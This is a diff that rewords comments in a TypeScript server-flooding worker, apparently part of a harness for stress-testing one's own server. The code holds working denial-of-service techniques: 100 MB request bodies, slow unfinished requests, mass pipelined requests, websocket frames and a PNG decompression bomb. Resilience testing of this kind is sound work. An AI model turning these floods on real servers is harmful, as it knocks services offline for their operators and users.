@@ -1,4 +1,4 @@
-// Floods a server from one address, when its parent says so: node flooder.ts KIND URL COOKIE
+// Floods a server from one address on its parent's command: node flooder.ts KIND URL COOKIE
 
 import { Agent, type AgentOptions, request } from 'node:http';
 import { connect, type Socket } from 'node:net';
@@ -19,10 +19,9 @@ const { hostname, port } = new URL(url);
 const options: AgentOptions = { keepAlive: true, localAddress: ADDRESS, maxSockets: AT_ONCE };
 const agent = new Agent(options);
 
-// Others flood from a machine of their own: here the server and its readers go first.
+// Real floods come from other machines, so the server and its readers have priority here.
 setPriority(19);
 
-/** Resolves when the connection is over, however it ended. */
 const over = (socket: Socket) => new Promise<void>((resolve) => socket.once('close', () => resolve()));
 
 const heard = (socket: Socket, event: 'connect' | 'drain' | 'data') =>
@@ -35,7 +34,6 @@ async function open(): Promise<Socket> {
   return socket;
 }
 
-/** Writes until the server hangs up. */
 async function pour(socket: Socket, chunk: Buffer, times: number): Promise<void> {
   const closed = over(socket);
   for (let sent = 0; sent < times && !socket.destroyed; sent += 1) {
@@ -43,7 +41,7 @@ async function pour(socket: Socket, chunk: Buffer, times: number): Promise<void>
   }
 }
 
-/** A body of 100 MB, whatever the server answers meanwhile. */
+/** Sends a body of 100 MB despite any response. */
 const body = (path: string, head: string) => async () => {
   const socket = await open();
   socket.write(`POST ${path} HTTP/1.1\r\nHost: x\r\n${head}\r\nContent-Length: ${LARGE}\r\n\r\n`);
@@ -68,7 +66,7 @@ function call(method: string, path: string, json?: unknown): Promise<void> {
   });
 }
 
-/** A frame of a websocket as a browser masks it, with a mask that changes nothing. */
+/** Returns a masked frame whose mask changes nothing. */
 function frame(text: string): Buffer {
   const content = Buffer.from(text);
   return Buffer.concat([Buffer.from([0x81, 0x80 | content.length, 0, 0, 0, 0]), content]);
@@ -89,13 +87,12 @@ async function liveConnection(): Promise<void> {
 async function unfinished(): Promise<void> {
   const socket = await open();
   socket.write('GET / HTTP/1.1\r\nHost: x\r\n');
-  // As many as the server takes; each goes on after its time.
+  // Opens as many as the server accepts.
   await Promise.race([over(socket), sleep(20)]);
 }
 
 const PIPELINED = 'GET /login HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(1_000);
 
-/** Asks a thousand times and reads nothing. */
 async function pipelined(): Promise<void> {
   const socket = connect({ host: hostname, port: Number(port), localAddress: ADDRESS });
   const closed = over(socket.on('error', () => undefined));
@@ -104,7 +101,7 @@ async function pipelined(): Promise<void> {
   socket.destroy();
 }
 
-/** 389 kB that would unpack to 400 MB, and to far more in a decoder. */
+/** 389 kB that decode to 400 MB and more. */
 const bomb = kind === 'pictures' ? blankPng(5_000_000, 10, { bits: 16, colour: 6 }) : Buffer.alloc(0);
 
 function picture(): Promise<void> {
